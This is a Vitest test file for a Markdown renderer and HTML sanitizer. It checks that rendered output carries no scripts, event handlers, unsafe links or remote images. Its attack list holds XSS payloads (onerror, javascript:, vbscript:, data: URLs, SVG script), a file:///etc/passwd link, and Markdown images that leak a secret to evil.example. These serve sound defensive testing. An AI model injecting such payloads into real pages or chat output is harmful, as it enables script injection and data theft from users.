// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { codeLanguage, decorateCodeBlocks, isSafeHref, renderMarkdown, sanitizeHtml } from "../src/render.js";

function dom(html) {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

/** No element may carry an event handler, a style, or a script-capable URL. */
function expectInert(html) {
  const root = dom(html);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith("on"), `${el.tagName} has ${attr.name}`).toBe(false);
      expect(attr.name).not.toBe("style");
      expect(attr.name).not.toBe("src");
      expect(attr.name).not.toBe("srcset");
      if (attr.name === "href") expect(isSafeHref(attr.value), attr.value).toBe(true);
    }
  }
  for (const tag of ["script", "img", "iframe", "form", "input", "button", "textarea", "select", "object", "embed", "style", "link", "meta", "svg", "math", "video", "audio", "source", "frame", "base"]) {
    expect(root.querySelector(tag), `<${tag}> survived`).toBeNull();
  }
  return root;
}

const ATTACKS = {
  imgOnerror: '<img src=x onerror="alert(1)">',
  script: "<script>alert(1)</script>",
  jsLink: "[x](javascript:alert(1))",
  jsLinkEncoded: "[x](jav&#x09;ascript:alert(1))",
  exfilImage: "![](https://evil.example/?q=secret)",
  exfilImageAlt: "![the secret](https://evil.example/?q=secret)",
  referenceImage: "![alt][ref]\n\n[ref]: https://evil.example/?q=secret",
  dataLink: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  mdDataLink: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  iframe: '<iframe src="https://evil.example"></iframe>',
  style: '<p style="position:fixed;inset:0">cover</p>',
  styleTag: "<style>body{display:none}</style>",
  form: '<form action="https://evil.example"><input name=a><button>go</button></form>',
  svg: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  vbscript: "[x](vbscript:msgbox)",
  fileLink: "[x](file:///etc/passwd)",
  autolinkJs: "<javascript:alert(1)>",
  eventInMarkdown: '**bold** <b onmouseover="alert(1)">hover</b>',
};

describe("renderMarkdown (marked + DOMPurify)", () => {
  for (const [name, markdown] of Object.entries(ATTACKS)) {
    it(`renders ${name} inert`, () => {
      expectInert(renderMarkdown(markdown));
    });
  }

  it("shows raw HTML as text instead of interpreting it", () => {
    const root = expectInert(renderMarkdown('<img src=x onerror="alert(1)">'));
    expect(root.textContent).toContain('<img src=x onerror="alert(1)">');
  });

  it("replaces images by an inert placeholder that never has a URL", () => {
    const html = renderMarkdown("Look: ![the secret](https://evil.example/?q=secret)");
    expect(html).not.toContain("evil.example");
    const root = expectInert(html);
    const placeholder = root.querySelector(".md-image");
    expect(placeholder.textContent).toBe("[image: the secret]");
  });

  it("drops javascript: hrefs and keeps the link text", () => {
    const root = expectInert(renderMarkdown("[x](javascript:alert(1))"));
    expect(root.querySelector("a[href]")).toBeNull();
    expect(root.textContent).toContain("x");
  });

  it("keeps http, https and mailto links with target and rel", () => {
    const root = expectInert(renderMarkdown("[a](https://example.com/x) [b](http://example.org) [c](mailto:me@example.com) https://auto.example/"));
    const links = [...root.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/x",
      "http://example.org",
      "mailto:me@example.com",
      "https://auto.example/",
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("removes relative and fragment hrefs", () => {
    const root = expectInert(renderMarkdown("[a](/admin) [b](#top) [c](//evil.example)"));
    expect(root.querySelectorAll("a[href]")).toHaveLength(0);
  });

  it("renders ordinary Markdown: headings, lists, tables, code, emphasis", () => {
    const md = "# Title\n\n- one\n- **two**\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```python\nprint('<hi>')\n```\n\nInline `x < y`.";
    const root = expectInert(renderMarkdown(md));
    expect(root.querySelector("h1").textContent).toBe("Title");
    expect(root.querySelectorAll("li")).toHaveLength(2);
    expect(root.querySelector("strong").textContent).toBe("two");
    expect(root.querySelector("table td").textContent).toBe("1");
    const code = root.querySelector("pre code");
    expect(code.className).toBe("language-python");
    expect(code.textContent).toBe("print('<hi>')\n");
    expect(root.querySelector("p code").textContent).toBe("x < y");
  });

  it("renders task lists without form controls", () => {
    const root = expectInert(renderMarkdown("- [x] done\n- [ ] todo"));
    expect(root.textContent).toContain("☑ done");
    expect(root.textContent).toContain("☐ todo");
  });

  it("handles an unterminated code fence while streaming", () => {
    const root = expectInert(renderMarkdown("Here:\n\n```js\nconst a = 1;"));
    expect(root.querySelector("pre code").textContent).toContain("const a = 1;");
  });
});

describe("sanitizeHtml (the second layer, on raw HTML)", () => {
  it("removes img with onerror entirely (placeholder, no src)", () => {
    const root = expectInert(sanitizeHtml('<p>a<img src=x onerror="alert(1)" alt="pic">b</p>'));
    expect(root.querySelector(".md-image").textContent).toBe("[image: pic]");
  });

  it("removes script, iframe, form, style and event handlers", () => {
    const root = expectInert(
      sanitizeHtml('<script>alert(1)</script><iframe src="https://e.example"></iframe><form><input></form><p style="color:red" onclick="x()">t</p><style>p{}</style>'),
    );
    expect(root.querySelector("p").textContent).toBe("t");
  });

  it("removes data:, javascript: and relative hrefs but keeps https with rel/target", () => {
    const root = expectInert(
      sanitizeHtml('<a href="data:text/html,x">1</a><a href="javascript:alert(1)">2</a><a href="JaVaScRiPt:alert(1)">3</a><a href="/x">4</a><a href="https://ok.example" target="_self" rel="opener">5</a>'),
    );
    const links = [...root.querySelectorAll("a[href]")];
    expect(links).toHaveLength(1);
    expect(links[0].getAttribute("target")).toBe("_blank");
    expect(links[0].getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("keeps only safe classes and drops data-/aria- attributes", () => {
    const root = expectInert(sanitizeHtml('<code class="language-js evil-class" data-x="1" aria-label="y">c</code>'));
    const code = root.querySelector("code");
    expect(code.getAttribute("class")).toBe("language-js");
    expect(code.hasAttribute("data-x")).toBe(false);
    expect(code.hasAttribute("aria-label")).toBe(false);
  });
});

describe("code blocks", () => {
  it("wraps each block with a language label and a copy button, once", () => {
    const root = dom(renderMarkdown("```js\nlet a;\n```\n\n```\nplain\n```"));
    decorateCodeBlocks(root);
    decorateCodeBlocks(root);
    const blocks = root.querySelectorAll(".code-block");
    expect(blocks).toHaveLength(2);
    expect([...root.querySelectorAll(".code-lang")].map((l) => l.textContent)).toEqual(["js", "text"]);
    expect(root.querySelectorAll('[data-action="copy-code"]')).toHaveLength(2);
    expect(root.querySelectorAll("[style]")).toHaveLength(0);
  });

  it("reads the language from the class", () => {
    const code = document.createElement("code");
    code.className = "language-Python";
    expect(codeLanguage(code)).toBe("python");
  });

  it("highlights lazily with classes only", async () => {
    const { highlightCodeBlocks } = await import("../src/render.js");
    const root = dom(renderMarkdown("```python\ndef f(x):\n    return '<b>'\n```"));
    expect(await highlightCodeBlocks(root)).toBe(1);
    const code = root.querySelector("pre code");
    expect(code.classList.contains("hljs")).toBe(true);
    expect(code.querySelector(".hljs-keyword")).not.toBeNull();
    expect(code.textContent).toBe("def f(x):\n    return '<b>'\n");
    expect(root.querySelectorAll("[style], b")).toHaveLength(0);
    expect(await highlightCodeBlocks(root)).toBe(0); // already highlighted
  });
});

describe("isSafeHref", () => {
  it.each([
    ["https://a.example", true],
    ["http://a.example", true],
    ["mailto:x@y.example", true],
    ["javascript:alert(1)", false],
    [" javascript:alert(1)", false],
    ["data:text/html,x", false],
    ["vbscript:x", false],
    ["/relative", false],
    ["", false],
  ])("%s -> %s", (href, safe) => {
    expect(isSafeHref(href)).toBe(safe);
  });
});
